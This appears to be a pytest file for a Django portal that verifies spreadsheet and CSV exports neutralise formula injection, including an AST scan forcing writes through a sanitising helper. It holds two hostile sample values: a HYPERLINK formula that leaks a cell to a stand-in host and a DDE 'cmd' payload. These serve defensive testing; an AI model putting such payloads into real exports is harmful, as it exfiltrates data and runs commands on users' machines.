"""Issue 15, finding 1: no export can carry a live formula (OWASP CSV injection).

Every openpyxl writer and CSV export goes through ``bpo_portal.exports``; the scan below fails
on a first-party module that writes cells or CSV rows any other way, so a later export cannot
forget the helper.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from accounts.audit import audit_record
from bpo_portal.exports import append_row, csv_writer, safe_cell, set_cell

ROOT = Path(__file__).resolve().parent.parent
HELPER = ROOT / "bpo_portal" / "exports.py"
SKIP = {".venv", "node_modules", "tests", "migrations", ".git"}
HOSTILE_NAME = '=HYPERLINK("http://x/?leak="&B2,"Open details")'
HOSTILE_FULL_NAME = "=cmd|' /C calc'!A0"


def first_party_modules() -> list[Path]:
    return [
        path
        for path in ROOT.rglob("*.py")
        if not SKIP.intersection(path.relative_to(ROOT).parts) and path != HELPER
    ]


def is_worksheet_name(name: str) -> bool:
    return name in {"ws", "functions", "summary"} or "sheet" in name.lower()


def unsafe_writes(tree: ast.AST) -> list[str]:
    """csv.writer/DictWriter, worksheet ``.append``/``.cell(value=…)`` and ``ws[...] = …``."""
    found = []
    openpyxl_module = any(
        isinstance(node, (ast.Import, ast.ImportFrom))
        and any("openpyxl" in (alias.name or "") for alias in getattr(node, "names", []))
        or (isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"))
        for node in ast.walk(tree)
    )
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            if name in {"writer", "DictWriter"} and getattr(node.func.value, "id", "") == "csv":
                found.append(f"line {node.lineno}: csv.{name}")
            if (
                openpyxl_module
                and name == "cell"
                and (len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords))
            ):
                found.append(f"line {node.lineno}: .cell(value=…)")
            if (
                openpyxl_module
                and name == "append"
                and node.args
                and not isinstance(node.args[0], ast.Tuple)
            ):
                target = node.func.value
                if isinstance(target, ast.Name) and is_worksheet_name(target.id):
                    found.append(f"line {node.lineno}: {target.id}.append")
        if openpyxl_module and isinstance(node, ast.Assign):
            for target in node.targets:
                base = target.value if isinstance(target, ast.Subscript) else None
                if isinstance(base, ast.Name) and is_worksheet_name(base.id):
                    found.append(f"line {node.lineno}: {base.id}[...] = …")
    return found


def test_every_openpyxl_and_csv_writer_goes_through_the_helper():
    offenders = {}
    for path in first_party_modules():
        problems = unsafe_writes(ast.parse(path.read_text(), filename=str(path)))
        if problems:
            offenders[str(path.relative_to(ROOT))] = problems
    assert not offenders, f"write through bpo_portal.exports instead: {offenders}"


def test_the_scan_catches_a_writer_that_bypasses_the_helper():
    source = (
        "import csv\nimport openpyxl\n"
        "def f(s, b):\n"
        "    csv.writer(b).writerow(['x'])\n"
        "    s.cell(row=1, column=1, value='=1')\n"
        "    sheet.append(['=1'])\n"
        "    sheet['A1'] = '=1'\n"
    )
    assert len(unsafe_writes(ast.parse(source))) == 4


def test_safe_cell_neutralises_formula_text_and_keeps_typed_values():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE_NAME):
        assert safe_cell(text) == "'" + text
    for value in (3, -2.5, Decimal("-1.20"), dt.date(2026, 1, 1), True, None, "Acme = best"):
        assert safe_cell(value) == value


def test_helpers_write_no_formula_cell():
    book = Workbook()
    sheet = book.active
    append_row(sheet, [HOSTILE_NAME, -5, Decimal("1.5")])
    set_cell(sheet, row=2, column=1, value="=1+1")
    buffer = io.BytesIO()
    book.save(buffer)
    reopened = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert all(cell.data_type != "f" for row in reopened.iter_rows() for cell in row)
    assert reopened["B1"].value == -5 and reopened["B1"].data_type == "n"
    out = io.StringIO()
    csv_writer(out).writerow([HOSTILE_FULL_NAME, 7])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + HOSTILE_FULL_NAME, "7"]


@pytest.mark.django_db
def test_probe_audit_csv_neutralises_a_formula_full_name(buyer_admin, buyer_org):
    audit_record(
        actor=buyer_admin,
        action="probe.recorded",
        summary=HOSTILE_FULL_NAME,
        organization=buyer_org,
    )
    client = Client()
    client.force_login(buyer_admin)
    response = client.get(reverse("audit_log_export"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    summaries = [row["summary"] for row in rows if row["action"] == "probe.recorded"]
    assert summaries == ["'" + HOSTILE_FULL_NAME]
    assert not any(value.startswith("=") for row in rows for value in row.values())
